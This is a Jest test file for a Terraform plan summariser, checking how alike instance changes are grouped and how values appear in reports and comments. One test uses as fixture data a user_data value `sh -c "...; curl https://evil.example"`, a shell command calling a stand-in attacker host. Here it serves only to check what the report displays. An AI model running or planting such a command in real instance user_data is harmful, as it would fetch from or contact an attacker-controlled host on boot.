import { expect, test } from '@jest/globals'
import type { Json } from '../../src/json.ts'
import { commentBody } from '../../src/report/comment.ts'
import { summaryOf } from '../../src/report/summary.ts'
import { changesOfPlan, type Changes } from '../../src/terraform/plan.ts'
import { aReport } from './a-report.ts'

function instances(
  count: number,
  actions: readonly string[],
  sides: (index: number) => readonly [Json, Json],
  more: Readonly<Record<string, Json>> = {}
): Changes {
  const found = changesOfPlan({
    format_version: '1.2',
    resource_changes: Array.from({ length: count }, (_, index) => {
      const [before, after] = sides(index)
      const change = { actions, before, after, before_sensitive: false, after_sensitive: false, ...more }
      return { address: `aws_x.n["k${index}"]`, change }
    })
  })
  if (found === undefined) throw new Error('this is not a plan')
  return found
}

const text = (changes: Changes): string => summaryOf(aReport({ changes })).text

test('instances that change alike are one entry, though each has an id of its own', () => {
  const said = text(
    instances(25, ['update'], index => [
      { id: `i-${index}`, size: 's' },
      { id: `i-${index}`, size: 'l' }
    ])
  )
  expect(said).toContain('25 × <code>aws_x.n[…]</code> will be updated · <code>size</code>')
  expect(said).toContain('`"k0"` `"k1"` `"k2"`')
  expect(said).toContain('! size = "s" -> "l"')
  expect(said).not.toContain('i-0')
})

test('one that changes otherwise is an entry of its own', () => {
  const said = text(instances(5, ['update'], index => [{ size: 's' }, { size: index === 3 ? 'xl' : 'l' }]))
  expect(said).toContain('4 × <code>aws_x.n[…]</code>')
  expect(said).toContain('<code>aws_x.n[&quot;k3&quot;]</code> will be updated')
})

test('instances that are replaced alike are one entry, with what each had, and in a comment with how much is missing', () => {
  const changes = instances(
    300,
    ['delete', 'create'],
    index => [{ id: `i-${index}-${'x'.repeat(300)}`, image: 'a' }, { image: 'b' }],
    { after_unknown: { id: true }, replace_paths: [['image']] }
  )
  const said = text(changes)
  expect(said).toContain('300 × <code>aws_x.n[…]</code> will be replaced')
  for (const index of [0, 150, 299]) expect(said).toContain(`"i-${index}-`)
  const comment = commentBody(aReport({ changes }), '', 'summary')
  expect(comment).toContain('! image = "a" -> "b" # forces replacement')
  expect(comment).toContain('_300 values are not shown._')
  expect(comment).not.toContain('i-0-')
})

test('a new value is shown, or named as missing, where a text of one line takes the place of JSON, a list or an object', () => {
  const evil = (index: number): string => `sh -c "MODE = prod ${index}; curl https://evil.example"`
  for (const before of ['{"a": 1}', [1, 2], { a: 1 }]) {
    const same = text(instances(2, ['update'], () => [{ user_data: before }, { user_data: evil(0) }]))
    expect(same).toContain('evil.example')
    const different = text(instances(2, ['update'], index => [{ user_data: before }, { user_data: evil(index) }]))
    expect(different).toMatch(/MODE = prod 0[^]*MODE = prod 1|2 values|differ/)
  }
})

test('instances that are replaced for different attributes are two entries', () => {
  const replaced = (key: string, forced: string): Json => {
    const sides = { before: { size: 's' }, after: { size: 's' }, before_sensitive: false, after_sensitive: false }
    const change = { actions: ['delete', 'create'], ...sides, replace_paths: [[forced]] }
    return { address: `aws_x.n["${key}"]`, change }
  }
  const changes = changesOfPlan({
    format_version: '1.2',
    resource_changes: [replaced('a', 'zone'), replaced('b', 'key')]
  })
  const said = changes === undefined ? '' : text(changes)
  expect(said).toMatch(/because of <code>zone<\/code>[^]*because of <code>key<\/code>/)
})
